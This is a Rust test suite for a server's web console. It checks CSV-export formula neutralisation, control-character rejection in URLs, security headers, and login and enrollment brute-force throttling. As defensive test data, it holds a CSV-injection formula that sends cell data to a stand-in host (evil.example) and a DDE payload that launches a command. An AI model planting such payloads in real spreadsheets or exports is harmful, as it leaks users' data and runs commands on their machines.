//! The doors of the server against a real server process, on SQLite and on
//! PostgreSQL: formula cells in CSV exports, control characters in console URLs,
//! security headers on every answer, and the brakes on guessing console
//! passwords (per account and client address) and enrollment codes (per client
//! address), each failure audited.

use std::time::Duration;

use gridfield_tests::console::{self, FORM, form, percent, session};
use gridfield_tests::*;

const PASSWORD: &str = "console-pass-1";
/// What a volunteer or worker could type into any free text on a phone.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";

fn text(r: &Reply) -> String {
    String::from_utf8_lossy(&r.body).into_owned()
}

/// A device-sent `=HYPERLINK(…)` reaches the CSV export neutralised; control
/// characters in any console query or path are refused with a page that says
/// so, never a server error, on both stores.
fn exports_and_queries(backend: Backend) {
    let store = Store::new(backend);
    store.seed();
    store.console_user("赵强", "supervisor", GRID_A, PASSWORD);
    let server = ServerProc::start(&store);
    let w = synced_worker(&store, &server, "张伟", GRID_A);
    for (desc, cat) in [
        (FORMULA, "fire.escape_blocked"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "fire.ebike_charging"),
    ] {
        w.ok(&[
            "hazard",
            "new",
            "--address",
            ADDR_A,
            "--category",
            cat,
            "--description",
            desc,
        ]);
    }
    assert_eq!(w.sync()["rejected"].as_array().unwrap().len(), 0);
    let c = console::sign_in(&server.url, "赵强", PASSWORD);

    // Control characters in a search, a filter or a path: a clear 400 page.
    for path in [
        "/console/addresses?q=%00",
        "/console/addresses?q=%E5%BB%BA%00%E8%AE%BE",
        "/console/hazards?category=a%00b",
        "/console/hazards?address=%00",
        "/console/inspections?grid=%00",
        "/console/reports?address=x%0Ay",
        "/console/plates?grid=320583001003%00",
        "/console/addresses/320583%00",
        "/console/export/hazards.csv?address=%00",
    ] {
        let r = console::get(&server.url, &c, path);
        assert_eq!(r.status, 400, "{path}: {}", text(&r));
        assert!(text(&r).contains("控制字符"), "{path}: {}", text(&r));
        if path.contains('?') {
            let en = console::get(&server.url, &c, &format!("{path}&lang=en"));
            assert!(text(&en).contains("control characters"), "{path}");
        }
    }
    let csv = console::get(&server.url, &c, "/console/export/hazards.csv");
    assert_eq!(csv.status, 200);
    let body = text(&csv);
    let body = body.strip_prefix('\u{feff}').expect("BOM");
    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    let descriptions: Vec<&str> = rows[1..].iter().map(|r| r[5].as_str()).collect();
    assert!(
        descriptions.contains(&format!("'{FORMULA}").as_str()),
        "{descriptions:?}"
    );
    assert!(
        descriptions.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0"),
        "{descriptions:?}"
    );
    // No cell of the file starts a formula, and neutralised cells are quoted.
    for r in &rows {
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
    }
    assert!(body.contains("\"'=HYPERLINK("), "{body}");

    // The same search without them still works, and the server is well.
    let ok = console::get(
        &server.url,
        &c,
        &format!("/console/addresses?q={}", percent("建设路12号")),
    );
    assert_eq!(ok.status, 200);
    assert!(text(&ok).contains(ADDR_A));
    assert!(server.healthy());
}

#[test]
fn exports_and_queries_sqlite() {
    exports_and_queries(Backend::Sqlite);
}

#[test]
fn exports_and_queries_postgres() {
    exports_and_queries(Backend::Postgres);
}

const CSP: &str = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; \
     object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";

fn assert_security_headers(r: &Reply, what: &str, hsts: bool) {
    assert_eq!(
        r.header("content-security-policy").as_deref(),
        Some(CSP),
        "{what}"
    );
    assert_eq!(
        r.header("x-frame-options").as_deref(),
        Some("DENY"),
        "{what}"
    );
    assert_eq!(
        r.header("x-content-type-options").as_deref(),
        Some("nosniff"),
        "{what}"
    );
    assert_eq!(
        r.header("referrer-policy").as_deref(),
        Some("same-origin"),
        "{what}"
    );
    assert_eq!(
        r.header("strict-transport-security").is_some(),
        hsts,
        "{what}: HSTS only with --secure-cookie"
    );
}

/// Every answer carries the security headers: pages, the sign-in form, error
/// pages, redirects, static files and the API; HSTS only with `--secure-cookie`.
#[test]
fn security_headers_on_every_answer() {
    let store = Store::new(Backend::Sqlite);
    store.seed();
    store.console_user("赵强", "supervisor", GRID_A, PASSWORD);
    {
        let server = ServerProc::start(&store);
        let u = server.url.clone();
        let c = console::sign_in(&u, "赵强", PASSWORD);
        for path in [
            "/console",
            "/console/inspections",
            "/console/hazards",
            "/console/addresses",
            &format!("/console/plates?grid={GRID_A}"),
            "/console/audit",
            "/console/inspections/no-such-id",
            "/console/static/console.js",
            "/console/static/console.css",
            "/console/addresses?q=%00",
        ] {
            let r = console::get(&u, &c, path);
            assert_security_headers(&r, path, false);
            if r.status == 200 && path.contains("plates") {
                // No inline script or handler for the CSP to block.
                let t = text(&r);
                assert!(!t.contains("onclick=") && !t.contains(" style="), "{t}");
            }
        }
        for (m, path) in [
            ("GET", "/console/login"),
            ("GET", "/console"),
            ("GET", "/healthz"),
            ("GET", "/v1/pull"),
            ("GET", "/no/such/endpoint"),
        ] {
            let r = http(m, &format!("{u}{path}"), &[], None);
            assert_security_headers(&r, path, false);
        }
        let r = console::login(&u, "赵强", "wrong");
        assert_security_headers(&r, "failed sign-in", false);
    }
    let secure = ServerProc::start_with(&store.target, &["--secure-cookie"]);
    let r = http("GET", &format!("{}/console/login", secure.url), &[], None);
    assert_security_headers(&r, "login, --secure-cookie", true);
    assert!(
        r.header("strict-transport-security")
            .unwrap()
            .starts_with("max-age=")
    );
    let r = http("GET", &format!("{}/healthz", secure.url), &[], None);
    assert_security_headers(&r, "healthz, --secure-cookie", true);
}

fn login_from(server: &ServerProc, client: &str, user: &str, password: &str) -> Reply {
    http(
        "POST",
        &format!("{}/console/login", server.url),
        &[FORM, ("x-forwarded-for", client)],
        Some(&form(&[("user", user), ("password", password)])),
    )
}

fn retry_after(r: &Reply) -> u64 {
    r.header("retry-after")
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("429 without Retry-After: {:?}", r.headers))
}

/// Lines `action detail` of the audit trail for `action`.
fn audit_rows(store: &Store, action: &str) -> Vec<String> {
    store.query_lines(&format!(
        "SELECT action || ' ' || COALESCE(detail, '') FROM audit WHERE action = '{action}' ORDER BY id"
    ))
}

/// Wrong passwords from one address brake that address (1 s, 2 s, … answered
/// 429 with Retry-After), never the real user elsewhere; unknown names are
/// answered exactly as known ones; `X-Forwarded-For` counts only from a trusted
/// proxy; every failure is audited without the password.
fn login_throttle(backend: Backend) {
    let store = Store::new(backend);
    store.seed();
    store.console_user("赵强", "supervisor", GRID_A, PASSWORD);

    // Without --trusted-proxy a forged X-Forwarded-For changes nothing: the
    // guesser is braked by its own (loopback) address.
    {
        let server = ServerProc::start(&store);
        for i in 0..3 {
            let r = login_from(&server, &format!("192.0.2.{i}"), "赵强", "guess-0");
            assert_eq!(r.status, 401, "{}", text(&r));
        }
        let r = login_from(&server, "192.0.2.99", "赵强", PASSWORD);
        assert_eq!(r.status, 429, "{}", text(&r));
        assert!(retry_after(&r) >= 1);
    }

    let server = ServerProc::start_with(&store.target, &["--trusted-proxy", "127.0.0.1"]);
    let attacker = "198.51.100.7";
    let mut answers = Vec::new();
    for i in 0..3 {
        let r = login_from(&server, attacker, "赵强", &format!("guess-{i}"));
        assert_eq!(r.status, 401, "{}", text(&r));
        answers.push(text(&r));
    }
    // Blocked now: even the right password from there is not tried.
    let r = login_from(&server, attacker, "赵强", PASSWORD);
    assert_eq!(r.status, 429, "{}", text(&r));
    assert!(text(&r).contains("秒后再试"), "{}", text(&r));
    assert_eq!(retry_after(&r), 1);
    // The real supervisor at the office signs in at once.
    let real = login_from(&server, "203.0.113.5", "赵强", PASSWORD);
    session(&real);

    // Past the delay the next failure doubles it.
    std::thread::sleep(Duration::from_secs(retry_after(&r)));
    assert_eq!(login_from(&server, attacker, "赵强", "guess-3").status, 401);
    let r = login_from(&server, attacker, "赵强", "guess-4");
    assert_eq!(r.status, 429);
    assert_eq!(retry_after(&r), 2);

    // An unknown name: the same answers, the same brake.
    let other = "198.51.100.8";
    for (i, known) in answers.iter().enumerate() {
        let r = login_from(&server, other, "无此用户", &format!("guess-{i}"));
        assert_eq!(r.status, 401);
        assert_eq!(&text(&r), known, "unknown and known names answer alike");
    }
    let r = login_from(&server, other, "无此用户", PASSWORD);
    assert_eq!(r.status, 429);
    assert_eq!(retry_after(&r), 1);

    // Every failure audited with the client's address, never a password.
    let failed = audit_rows(&store, "console_login_failed");
    assert_eq!(failed.len(), 3 + 3 + 1 + 3, "{failed:#?}");
    assert!(failed.iter().any(|l| l.contains(attacker)), "{failed:#?}");
    for l in &failed {
        assert!(!l.contains("guess-") && !l.contains(PASSWORD), "{l}");
    }
    assert!(
        audit_rows(&store, "console_login")
            .iter()
            .any(|l| l.contains("203.0.113.5"))
    );
}

#[test]
fn login_throttle_sqlite() {
    login_throttle(Backend::Sqlite);
}

#[test]
fn login_throttle_postgres() {
    login_throttle(Backend::Postgres);
}

fn enroll(server: &ServerProc, code: &str, forwarded: &str) -> Reply {
    let body = serde_json::json!({ "code": code, "device_name": "test" }).to_string();
    http(
        "POST",
        &format!("{}/v1/enroll", server.url),
        &[
            ("content-type", "application/json"),
            ("x-forwarded-for", forwarded),
        ],
        Some(body.as_bytes()),
    )
}

/// Wrong enrollment codes (unknown or used) from one address: five are answered
/// as such, then 429 `too_many_attempts` with Retry-After (a forged
/// X-Forwarded-For does not help); every failure is audited without the code;
/// a real code still works once the delay has passed. A burst of parallel
/// guesses is braked the same.
fn enroll_throttle(backend: Backend) {
    let store = Store::new(backend);
    store.seed();
    let good = store.code("张伟", "worker", GRID_A);
    let server = ServerProc::start(&store);
    // A code used twice, then unknown codes: five failures in all.
    let used = store.code("李娜", "worker", GRID_A);
    assert_eq!(enroll(&server, &used, "x").status, 200);
    enroll(&server, &used, "x").assert_error(401, "code_used");
    for i in 0..4 {
        let wrong = format!("DEAD-BEEF-{i:04}");
        enroll(&server, &wrong, &format!("192.0.2.{i}")).assert_error(401, "invalid_code");
    }
    let r = enroll(&server, &good, "192.0.2.77");
    r.assert_error(429, "too_many_attempts");
    let wait = retry_after(&r);
    assert_eq!(wait, 1);
    let failed = audit_rows(&store, "enroll_failed");
    assert_eq!(failed.len(), 5, "{failed:#?}");
    let count = |reason: &str| failed.iter().filter(|l| l.contains(reason)).count();
    assert_eq!((count("code_used"), count("invalid_code")), (1, 4));
    for l in &failed {
        assert!(!l.contains("DEAD-BEEF") && !l.contains(&used), "{l}");
    }
    // The refused attempt did not use the code up.
    std::thread::sleep(Duration::from_secs(wait));
    let ok = enroll(&server, &good, "192.0.2.77");
    assert_eq!(ok.status, 200, "{}", text(&ok));
    assert!(ok.json()["token"].as_str().is_some());

    // Twenty guesses at once: each attempt counts from its start, so only the
    // free ones are tried (a few more only if the machine stalls for seconds).
    let answers: Vec<u16> = std::thread::scope(|sc| {
        let handles: Vec<_> = (0..20)
            .map(|i| {
                let server = &server;
                sc.spawn(move || enroll(server, &format!("FACE-FEED-{i:04}"), "x").status)
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let tried = answers.iter().filter(|s| **s == 401).count();
    let braked = answers.iter().filter(|s| **s == 429).count();
    assert_eq!(tried + braked, 20, "{answers:?}");
    assert!((5..=8).contains(&tried), "{answers:?}");
}

#[test]
fn enroll_throttle_sqlite() {
    enroll_throttle(Backend::Sqlite);
}

#[test]
fn enroll_throttle_postgres() {
    enroll_throttle(Backend::Postgres);
}
